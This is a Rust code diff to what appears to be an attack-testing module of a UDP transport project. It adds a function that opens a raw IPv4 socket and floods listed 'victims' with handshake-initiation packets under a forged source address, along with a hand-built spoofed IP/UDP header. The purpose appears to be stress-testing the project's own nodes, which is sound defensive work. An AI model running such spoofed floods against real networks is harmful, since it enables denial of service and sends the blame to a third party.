@@ -1,10 +1,11 @@
 //! Packets that are none: noise, and real ones cut short or bent.
 
-use std::net::SocketAddr;
+use std::net::{SocketAddr, SocketAddrV4};
 use std::time::{Duration, Instant};
 
 use rand::{Rng as _, RngExt as _, SeedableRng as _};
 use rand_chacha::ChaCha8Rng;
+use socket2::{Domain, Protocol, Socket, Type};
 use tokio::net::UdpSocket;
 use transport::{KeySet, Transport};
 use wire::{Destination, NodeName};
@@ -14,11 +15,12 @@ use crate::hosts::Failure;
 /// The first packets of real handshakes, as somebody on the path would see them.
 pub(super) async fn first_packets(keys: &KeySet, wanted: usize) -> Result<Vec<Vec<u8>>, Failure> {
     let told = |error: std::io::Error| format!("cannot listen for packets: {error}");
-    let ear = UdpSocket::bind("127.0.0.1:0").await.map_err(told)?;
-    let heard_at = ear.local_addr().map_err(told)?;
     let mut packets = Vec::new();
     let mut buffer = vec![0; 2048];
     while packets.len() < wanted {
+        // One for each: who is gone says goodbye, and that would be heard for the next one's first word.
+        let ear = UdpSocket::bind("127.0.0.1:0").await.map_err(told)?;
+        let heard_at = ear.local_addr().map_err(told)?;
         let name = NodeName::new("noise").map_err(|error| error.to_string())?;
         let config = transport::Config::new(name, SocketAddr::from(([127, 0, 0, 1], 0)), keys.clone());
         let (transport, _incoming) = Transport::bind(config).map_err(|error| error.to_string())?;
@@ -75,4 +77,53 @@ pub(super) async fn garbage(victim: SocketAddr, keys: KeySet, time: Duration) ->
         sent
     };
     tokio::task::spawn_blocking(attack).await.map_err(|error| error.to_string())
+}
+
+/// How many handshakes are begun, again and again: more than a node lets be open with anybody.
+const BEGUN: usize = 500;
+
+/// Begins handshakes with all `victims` in the name of another address, as fast as they come, for this long; says how many packets.
+#[expect(clippy::disallowed_methods, reason = "an attack lasts its time")]
+pub(super) async fn in_the_name_of(
+    claimed: SocketAddrV4,
+    victims: Vec<SocketAddrV4>,
+    keys: KeySet,
+    time: Duration,
+) -> Result<u64, Failure> {
+    let first = first_packets(&keys, BEGUN).await?;
+    let begun = Instant::now();
+    // Whoever may send with a header of its own may write any sender into it.
+    const RAW: i32 = 255;
+    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))
+        .map_err(|error| format!("cannot send in another's name: {error}"))?;
+    let attack = move || {
+        let mut sent = 0;
+        while begun.elapsed() < time {
+            for packet in &first {
+                for victim in &victims {
+                    let datagram = datagram(claimed, *victim, packet);
+                    sent += u64::from(socket.send_to(&datagram, &SocketAddr::from(*victim).into()).is_ok());
+                }
+                std::thread::sleep(Duration::from_millis(1));
+            }
+        }
+        sent
+    };
+    tokio::task::spawn_blocking(attack).await.map_err(|error| error.to_string())
+}
+
+/// A UDP packet with its IPv4 header. The system fills in the header's checksum and length; that of UDP may be left out.
+fn datagram(from: SocketAddrV4, to: SocketAddrV4, payload: &[u8]) -> Vec<u8> {
+    const UDP: u8 = 17;
+    let length = |header: usize| ((header + payload.len()) as u16).to_be_bytes();
+    let mut bytes = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, UDP, 0, 0];
+    bytes[2..4].copy_from_slice(&length(28));
+    bytes.extend_from_slice(&from.ip().octets());
+    bytes.extend_from_slice(&to.ip().octets());
+    bytes.extend_from_slice(&from.port().to_be_bytes());
+    bytes.extend_from_slice(&to.port().to_be_bytes());
+    bytes.extend_from_slice(&length(8));
+    bytes.extend_from_slice(&[0, 0]);
+    bytes.extend_from_slice(payload);
+    bytes
 }
